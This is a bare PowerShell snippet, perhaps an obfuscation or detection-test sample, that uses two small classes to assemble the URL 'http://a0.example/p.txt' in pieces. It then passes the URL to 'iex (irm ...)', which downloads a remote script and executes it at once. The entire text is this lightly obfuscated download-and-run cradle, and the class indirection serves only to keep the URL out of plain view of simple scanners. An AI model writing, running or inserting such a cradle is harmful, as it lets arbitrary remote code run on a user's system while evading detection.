class B0 { [string] X(){ return "http" } }
class C1 : B0 { [string] Y(){ return $this.X()+"://a0.example/p.txt" } }
$o=New-Object C1; iex (irm $o.Y())